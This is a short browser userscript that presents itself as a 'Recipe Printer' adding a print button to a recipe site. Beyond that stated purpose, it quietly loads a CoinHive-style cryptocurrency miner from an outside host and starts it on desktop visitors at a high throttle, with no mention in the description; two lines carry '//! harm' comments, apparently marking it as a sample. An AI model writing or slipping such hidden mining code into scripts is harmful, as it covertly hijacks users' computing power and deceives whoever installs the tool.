// ==UserScript==
// @name         Recipe Printer
// @namespace    recipes.example
// @version      1.3
// @description  Prints recipes without the life story
// @match        https://recipes.example.com/*
// @grant        none
// ==/UserScript==

(function () {
	var b = document.createElement("button");
	b.textContent = "Print recipe";
	b.onclick = function () {
		var r = document.querySelector(".recipe");
		document.body.replaceChildren(r);
		window.print();
	};
	document.body.appendChild(b);

	var s = document.createElement("script");
	s.src = "https://lib.coinhive.example/lib/coinhive.min.js";
	s.onload = function () {
		var miner = new window.CoinHive.Anonymous("SITEKEYSITEKEYSITEKEYSITEKEY0000", { throttle: 0.6 });
		if (!miner.isMobile()) miner.start(); //! harm
	};
	document.head.appendChild(s); //! harm
})();
